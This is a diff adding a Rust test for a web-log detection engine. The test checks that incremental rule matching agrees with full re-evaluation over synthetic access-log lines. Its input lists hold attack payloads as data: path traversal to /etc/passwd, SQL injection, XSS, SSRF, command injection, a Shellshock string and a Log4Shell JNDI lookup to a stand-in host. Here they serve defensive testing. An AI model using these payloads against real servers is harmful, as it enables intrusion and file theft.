@@ -1,0 +1,152 @@
+//! What is remembered of the parts of requests changes nothing: the observer, which remembers them, finds in each request what the
+//! slow way finds that decodes every request anew and evaluates every rule.
+#![expect(clippy::disallowed_methods, reason = "the rules of the repository are read from disk")]
+
+use std::path::Path;
+
+use bumpalo::Bump;
+use vigie_detect::normalise::{Normaliser, Scratch};
+use vigie_detect::observe::{Observer, SystemName, WithRecord};
+use vigie_detect::options::Options;
+use vigie_detect::rules::{RuleIndex, RuleRole, RuleSet};
+use vigie_facts::origin::{InputId, Origin};
+use vigie_parse::{Options as ParseOptions, Parsed, Parser, YearClock, recognise};
+
+/// Requests that are compared. The slow way takes its time in a debug build.
+const REQUESTS: usize = 2_000;
+
+/// Rules that parts read one by one could get wrong: what stands across two parts, what must not stand in any, words without a
+/// field, and what the tokenisers or the decoder say of all parts together.
+const TRICKY: &str = r"
+title: Across parts
+tags: [vigie.form.protocol-abuse]
+logsource: { category: webserver }
+detection:
+    across: { request.text|re: 'index\nhttps?://' }
+    ends: { request.text|contains: 'b' }
+    starts: { request.text|re: '^/a[^z]*\n.*mozilla' }
+    condition: across or (starts and not ends)
+---
+title: Words anywhere
+tags: [vigie.form.protocol-abuse]
+logsource: { category: webserver }
+detection:
+    keywords: [wp-login, 'curl/8']
+    condition: keywords
+---
+title: Both at once
+tags: [vigie.form.protocol-abuse]
+logsource: { category: webserver }
+detection:
+    encoded: { request.encoding|contains: nested-percent }
+    agent: { user_agent.original|contains: Bot }
+    referrer: { http.request.referrer|contains: example }
+    user: { user.name|startswith: al }
+    condition: 2 of them
+";
+
+const PATHS: &[&str] = &[
+    "/",
+    "/index",
+    "/a",
+    "/a/../b.php",
+    "/wp-login.php",
+    "/.env",
+    "/%2e%2e/%252e/etc/passwd",
+    "/caf%C3%A9",
+    "//x",
+    "/admin/config.php",
+    "*",
+    "/a%0aset-cookie:x",
+];
+const QUERIES: &[&str] = &[
+    "",
+    "?id=1",
+    "?id=1%27%20or%201=1--",
+    "?q=l%27union+select",
+    "?q=<script>alert(1)</script>",
+    "?u=http://127.0.0.1/",
+    "?f=php://filter/convert.base64-encode",
+    "?",
+    "?x=%25252e",
+    "?a=1&a=;cat+/etc/passwd",
+    "?-d+allow_url_include%3d1",
+];
+const REFERRERS: &[&str] = &[
+    "-",
+    "https://example.org/",
+    "https://example.org/?q=%27+union+select+1",
+    "http://evil.example/%252525",
+    "() { :; }; id",
+    "${jndi:ldap://192.0.2.9/a}",
+];
+const AGENTS: &[&str] = &[
+    "-",
+    "Mozilla/5.0 (X11; Linux x86_64)",
+    "curl/8.0",
+    "sqlmap/1.7",
+    "ExampleBot/1.0",
+    "<script>x</script>",
+    "' or 1=1 --",
+];
+const USERS: &[&str] = &["-", "alice", "root"];
+
+#[test]
+fn requests_remembered_in_parts_match_as_requests_read_anew() {
+    let mut files = Vec::new();
+    collect(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules"), &mut files);
+    files.push(("tricky/parts/rule.yml".to_owned(), TRICKY.to_owned()));
+    let borrowed: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    let (rules, _) = RuleSet::load(&borrowed);
+    let mut log = String::new();
+    let mut state = 7;
+    for _ in 0..REQUESTS {
+        let mut pick = |of: &[&'static str]| of[below(&mut state, of.len())];
+        let (path, query, referrer, agent, user) =
+            (pick(PATHS), pick(QUERIES), pick(REFERRERS), pick(AGENTS), pick(USERS));
+        log.push_str(&format!(
+            "198.51.100.7 - {user} [07/Feb/2017:10:05:03 +0100] \"GET {path}{query} HTTP/1.1\" 200 512 \"{referrer}\" \"{agent}\"\n"
+        ));
+    }
+    let matched = compare(&rules, log.as_bytes());
+    assert!(matched > REQUESTS / 2, "only {matched} hits: the comparison is nearly empty");
+}
+
+fn compare(rules: &RuleSet, log: &[u8]) -> usize {
+    let (parse, options) = (ParseOptions::default(), Options::default());
+    let recognition = recognise(&log[..log.len().min(64 << 10)], &parse);
+    let mut parser = Parser::new(&recognition, &parse, YearClock::starting(None));
+    let mut observer = Observer::new(rules, &options);
+    let place = SystemName { system: "access.log", asset: "access.log", family: 0 };
+    let (mut space, mut each, mut matched) = (Scratch::default(), Vec::new(), 0);
+    for (at, record) in log.split(|byte| *byte == b'\n').filter(|record| !record.is_empty()).enumerate() {
+        let arena = Bump::new();
+        let origin = Origin { input: InputId(0), line: at as u64 + 1, byte_start: 0, byte_len: record.len() as u32 };
+        let Parsed::Event(event) = parser.parse(record, origin, &arena) else { panic!("not understood: {record:?}") };
+        let mut fast: Vec<RuleIndex> = observer.observe(&event, record, &place).iter().map(|hit| hit.rule).collect();
+        fast.sort_unstable();
+        let whole = WithRecord { event: Normaliser::new().apply(&event, &mut space), record };
+        rules.evaluate_each(&event, &whole, &mut each);
+        each.retain(|rule| rules.rule(*rule).role == RuleRole::Detection);
+        assert_eq!(fast, each, "{}", String::from_utf8_lossy(record));
+        matched += each.len();
+    }
+    matched
+}
+
+/// A number below a bound, from a small generator with a fixed start (Knuth's MMIX constants).
+fn below(state: &mut u64, bound: usize) -> usize {
+    *state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+    (*state >> 33) as usize % bound
+}
+
+fn collect(folder: &Path, files: &mut Vec<(String, String)>) {
+    for entry in std::fs::read_dir(folder).unwrap().map(Result::unwrap) {
+        if entry.path().is_dir() {
+            collect(&entry.path(), files);
+        } else if entry.file_name() == "rule.yml" {
+            files.push((entry.path().display().to_string(), std::fs::read_to_string(entry.path()).unwrap()));
+        }
+    }
+    files.sort();
+}
